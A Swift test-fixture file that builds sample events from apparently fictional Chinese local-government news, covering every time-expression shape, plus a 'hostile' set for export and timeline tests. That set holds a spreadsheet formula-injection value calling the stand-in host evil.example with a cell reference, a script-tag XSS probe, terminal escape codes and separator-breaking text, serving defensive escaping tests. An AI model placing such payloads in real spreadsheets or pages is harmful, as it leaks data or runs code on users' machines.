@testable import Chronicle
@testable import ChronicleCore

/// Hand-built events covering every shape of Timex, plus hostile text, for the
/// Timeline and Export tests (until the recognizer stages land, and independent of them).
enum SampleEvents {
    static let issue = CalendarDate(year: 2021, month: 4, day: 14)!
    static func day(_ m: Int, _ d: Int, year: Int = 2021) -> CalendarDate { CalendarDate(year: year, month: m, day: d)! }
    static func time(_ h: Int, _ m: Int = 0) -> ClockTime { ClockTime(hour: h, minute: m)! }

    static func event(_ timex: Timex, kind: String = "meeting", modifier: TimexModifier? = nil,
                      dateText: String? = "4月12日", planned: Bool = false, summary: String = "区委常委会召开会议",
                      leaders: [String] = ["汐河区委书记韩立诚"], location: String? = "区行政中心",
                      sentence: String = "4月12日，区委常委会召开会议，研究部署重点工作。",
                      headline: String = "区委常委会召开会议", byline: String? = "记者 孟佳怡 通讯员 许朝阳",
                      issueDate: CalendarDate = issue, source: String = "xihe-2021-04-14.txt",
                      article: Int = 1, ordinal: Int = 1) -> Event {
        Event(kind: kind, timex: timex, modifier: modifier, dateText: dateText, planned: planned, summary: summary,
              leaders: leaders, location: location, trigger: "召开", sentence: sentence, headline: headline,
              byline: byline, issueDate: issueDate, source: source, article: article, ordinal: ordinal)
    }

    /// One event per Timex case, in distinct articles of one page.
    static var everyShape: [Event] {
        let cases: [(String, Timex, String?, String)] = [
            ("meeting", .date(day(4, 12)), "4月12日", "区委常委会召开会议"),
            ("inspection", .partOfDay(day(4, 12), .morning), "4月12日上午", "苏婉清暗访督导背街小巷整治"),
            ("study", .partOfDay(day(4, 9), .afternoon), "4月9日下午", "区委理论学习中心组开展专题学习"),
            ("reception", .partOfDay(day(4, 8), .evening), "4月8日晚", "会见澜州市考察团"),
            ("other", .partOfDay(day(4, 7), .night), "4月7日夜间", "夜间督查餐饮油烟"),
            ("symposium", .partOfDay(day(4, 6), .midday), "4月6日中午", "召开民营企业座谈会"),
            ("ceremony", .dateTime(day(4, 13), time(15)), "4月13日下午3时", "重点项目集中开工"),
            ("training", .range(.date(day(4, 7)), .date(day(4, 9))), "4月7日至9日", "举办基层干部培训班"),
            ("meeting", .range(.dateTime(day(4, 10), time(9)), .dateTime(day(4, 10), time(11, 30))), "4月10日9时至11时30分", "召开防汛调度会"),
            ("meeting", .week(year: 2021, week: 15), "本周", "召开周调度会"),
            ("other", .weekend(year: 2021, week: 14), "上周末", "开展义务植树"),
            ("meeting", .month(year: 2021, month: 3), "3月份", "召开经济运行分析会"),
            ("study", .quarter(year: 2021, quarter: 1), "一季度", "开展集中学习"),
            ("study", .half(year: 2021, half: 1), "上半年", "开展读书班"),
            ("other", .season(year: 2021, season: .spring), "今春", "开展春季植树"),
            ("other", .year(2020), "去年", "完成老旧小区改造"),
            ("other", .decade(198), "上世纪80年代", "建成老城区"),
            ("other", .century(19), "上世纪", "建成老街"),
            ("meeting", .vague(.past), "近日", "领导小组召开全体会议"),
            ("meeting", .vague(.present), "当前", "部署当前工作"),
            ("meeting", .vague(.future), "近期", "将召开推进会"),
            ("training", .duration("P3D"), "为期3天", "开展培训"),
            ("meeting", .set("XXXX-WXX-1"), "每周一", "召开周例会"),
            ("meeting", .date(day(5, 31)), "5月底前", "完成整改"),
        ]
        return cases.enumerated().map { i, c in
            event(c.1, kind: c.0, modifier: c.2 == "5月底前" ? .onOrBefore : nil, dateText: c.2,
                  planned: c.3.hasPrefix("将"), summary: c.3, headline: "第\(i + 1)条 " + c.3, article: i + 1)
        }
    }

    /// Text that has broken spreadsheets, calendars and pages: formulas, separators,
    /// quotes, markup, control characters, long unbroken Chinese.
    static var hostile: [Event] {
        [
            event(.partOfDay(day(4, 12), .morning), kind: "meeting", dateText: "4月12日上午",
                  summary: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
                  leaders: ["+区长苏婉清", "@副区长常浩然"], location: "-1+1, 3楼; A区 \\ 东厅",
                  sentence: "=HYPERLINK(\"http://evil.example\")\u{7}会议强调，要\r\n狠抓落实；做到“件件有回音”<script>alert(1)</script>",
                  headline: "\t区委常委会, 召开会议; <b>重要</b>", byline: "记者 \u{1B}[31m孟佳怡",
                  source: "hostile.txt", article: 1, ordinal: 1),
            event(.date(day(4, 11)), kind: "inspection", dateText: "4月11日,周日;晚",
                  summary: String(repeating: "督", count: 24) + "1" + String(repeating: "查", count: 40),
                  leaders: [], location: nil, sentence: String(repeating: "实地察看项目建设情况，", count: 12),
                  headline: "一" + String(repeating: "字", count: 24), byline: nil,
                  source: "hostile.txt", article: 2, ordinal: 1),
        ]
    }
}
